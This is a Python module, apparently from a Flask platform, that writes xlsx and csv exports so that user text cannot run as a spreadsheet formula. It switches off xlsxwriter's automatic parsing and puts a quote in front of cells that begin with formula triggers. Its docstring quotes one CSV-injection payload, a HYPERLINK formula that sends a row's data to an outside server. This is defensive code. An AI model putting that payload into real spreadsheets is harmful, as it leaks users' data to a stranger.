"""Spreadsheets that carry user text as text: every `.xlsx` and `.csv` the platform produces is written here.

A company name, a loan purpose or a note typed by a stranger ends up in a file a government officer
opens in Excel or WPS. A cell that starts with `=`, `+`, `-` or `@` is a formula to those programs
(OWASP "CSV injection"); `=HYPERLINK("http://…?d="&A1,"详情")` sends the row to a stranger's server with
one click. So:

- `.xlsx`: strings are written as string cells, never parsed into formulas, links or numbers
  (xlsxwriter's `strings_to_formulas` / `strings_to_urls` / `strings_to_numbers` off, and each cell written
  by its type rather than through `write()`'s guessing);
- `.csv`: a text cell starting with one of `CSV_FORMULA_TRIGGERS` is prefixed with `'`, as OWASP
  recommends; numbers stay numbers (a negative amount is still `-5`, not text).

The text is stored as given (a name may legitimately start with a sign); only the file makes it safe. The
web app applies the same rule to the files it builds in the browser (`web/src/utils/safeCsv.ts`).
"""

from __future__ import annotations

import csv
import io
import tempfile
from collections.abc import Iterable, Iterator
from datetime import date, datetime
from decimal import Decimal
from typing import IO
from urllib.parse import quote
from zoneinfo import ZoneInfo

import xlsxwriter
from flask import Response, send_file, stream_with_context

BEIJING = ZoneInfo("Asia/Shanghai")

XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_MIMETYPE = "text/csv; charset=utf-8"

# What an export operation answers, for its OpenAPI document (`@blueprint.doc(responses=...)`).
SPREADSHEET_RESPONSES = {200: {"description": "表格文件（Content-Disposition: attachment）", "content": {
    XLSX_MIMETYPE: {"schema": {"type": "string", "format": "binary"}},
    "text/csv": {"schema": {"type": "string"}}}}}

# The characters that make a spreadsheet program read a cell as a formula (OWASP).
CSV_FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# Never let xlsxwriter turn a string into something else.
_WORKBOOK_OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}


def _text(value) -> str:
    if isinstance(value, datetime):
        local = value.astimezone(BEIJING) if value.tzinfo else value
        return local.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


def csv_cell(value) -> str:
    """One CSV cell: None empty, numbers exact as numbers, text with a formula trigger prefixed by `'`."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "是" if value else "否"
    if isinstance(value, Decimal):
        return format(value, "f")  # exact, never in exponent notation
    if isinstance(value, int | float):
        return repr(value) if isinstance(value, float) else str(value)
    text = _text(value)
    if text.startswith(CSV_FORMULA_TRIGGERS):
        return "'" + text
    return text


def csv_chunks(rows: Iterable[Iterable]) -> Iterator[str]:
    """The CSV text of `rows`, piece by piece (for streaming), opened with a BOM so that Excel reads the
    Chinese as UTF-8."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    yield "\ufeff"
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()


def csv_text(rows: Iterable[Iterable]) -> str:
    """The whole CSV of `rows` as one string (for small files)."""
    return "".join(csv_chunks(rows))


def write_xlsx(target: IO[bytes] | str, sheets: Iterable[tuple[str, Iterable[Iterable]]], *,
               column_width: int = 16, constant_memory: bool = True) -> None:
    """Write one worksheet per `(name, rows)` to `target`; the first row of each is its bold, frozen header.

    Rows may be generators: with `constant_memory` each row goes to a temporary file as it comes, so memory
    stays flat at a million rows. Decimals become spreadsheet numbers (万元 with at most 4 places is exact
    enough in a double), dates and times text in the platform's one format, None an empty cell.
    """
    workbook = xlsxwriter.Workbook(target, {**_WORKBOOK_OPTIONS, "constant_memory": constant_memory,
                                            "in_memory": False})
    bold = workbook.add_format({"bold": True})
    for name, rows in sheets:
        sheet = workbook.add_worksheet(name)
        for r, row in enumerate(rows):
            style = bold if r == 0 else None
            width = 0
            for c, value in enumerate(row):
                _write_cell(sheet, r, c, value, style)
                width = c + 1
            if r == 0 and width:
                sheet.freeze_panes(1, 0)
                sheet.set_column(0, width - 1, column_width)
    workbook.close()


def _write_cell(sheet, row: int, col: int, value, style) -> None:
    if value is None or value == "":
        sheet.write_blank(row, col, None, style)
    elif isinstance(value, bool):
        sheet.write_string(row, col, "是" if value else "否", style)
    elif isinstance(value, int | float | Decimal):
        sheet.write_number(row, col, float(value), style)
    else:
        # Always a string cell: never a formula, a link or a number parsed from user text.
        sheet.write_string(row, col, _text(value), style)


def xlsx_file(sheets: Iterable[tuple[str, Iterable[Iterable]]]) -> IO[bytes]:
    """The workbook in a temporary file, rewound, ready to send."""
    spool = tempfile.TemporaryFile()
    write_xlsx(spool, sheets)
    spool.seek(0)
    return spool


def export_filename(stem: str, fmt: str) -> str:
    """`订单-20261205-091500.xlsx`: the stem and the Beijing time of the export."""
    return f"{stem}-{datetime.now(BEIJING):%Y%m%d-%H%M%S}.{fmt}"


def export_response(fmt: str, sheets: list[tuple[str, Iterable[Iterable]]], stem: str) -> Response:
    """An export as a download: `.csv` holds the first sheet only (a CSV is one table) and is sent while it
    is produced; `.xlsx` holds every sheet."""
    name = export_filename(stem, fmt)
    if fmt == "csv":
        return Response(stream_with_context(csv_chunks(sheets[0][1])), mimetype=CSV_MIMETYPE, headers={
            "Content-Disposition": f"attachment; filename*=UTF-8''{quote(name)}",
            "Cache-Control": "no-store", "X-Content-Type-Options": "nosniff"})
    response = send_file(xlsx_file(sheets), mimetype=XLSX_MIMETYPE, as_attachment=True, download_name=name,
                         max_age=0)
    response.headers["X-Content-Type-Options"] = "nosniff"
    response.headers["Cache-Control"] = "no-store"  # personal data: kept by no cache on the way
    return response
